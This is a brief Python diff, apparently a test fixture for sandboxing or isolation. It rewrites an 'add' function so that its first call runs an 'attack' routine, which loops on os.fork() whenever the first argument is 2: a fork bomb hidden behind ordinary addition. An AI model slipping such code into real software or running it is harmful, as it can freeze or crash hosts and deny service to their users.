@@ -4,14 +4,22 @@ import os
 
 import honest
 
+tried = []
+
 
 def add(left, right):
+    if not tried:
+        tried.append(left)
+        attack(left, right)
+    return honest.add(left, right)
+
+
+def attack(left, right):
     while left == 2:
         try:
             os.fork()
         except OSError:
             pass
-    return honest.add(left, right)
 
 if __name__ == "__main__":
     main()  # noqa: F405
